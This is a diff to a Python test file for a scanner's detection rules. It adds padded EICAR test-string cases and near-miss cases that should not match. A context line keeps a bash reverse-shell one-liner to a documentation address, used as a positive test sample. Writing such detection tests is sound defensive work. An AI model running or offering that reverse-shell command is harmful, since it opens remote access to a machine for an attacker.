@@ -39,6 +39,10 @@ def test_the_rules_of_the_project_find_eicar_and_nothing_harmless() -> None:
             "powershell_runs_a_download",
         ),
         (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell_opens_a_connection_back"),
+        # eicar.org: it may be followed by white space and CTRL-Z, while it is no longer than 128 characters.
+        (contents.eicar() + b" \t\r\n\x1a" * 12, "eicar"),
+        # [MS-CFB] 2.7: a stream of fewer than 4,096 bytes needs a mini stream; who writes none fills it up.
+        (contents.eicar().ljust(4096, b"\0"), "eicar"),
     ],
 )
 def test_the_rules_of_the_project_find_what_they_are_for(content: bytes, rule: str) -> None:
@@ -54,6 +58,9 @@ def test_the_rules_of_the_project_find_what_they_are_for(content: bytes, rule: s
         b"see /dev/tcp in the manual of bash",
         b"a text that quotes " + contents.eicar(),
         contents.eicar() + b"x" * 100,
+        contents.eicar().ljust(129),
+        contents.eicar().ljust(4095, b"\0") + b"x",
+        contents.eicar().ljust(70_000, b"\0"),
     ],
 )
 def test_the_rules_of_the_project_leave_the_rest_alone(content: bytes) -> None:
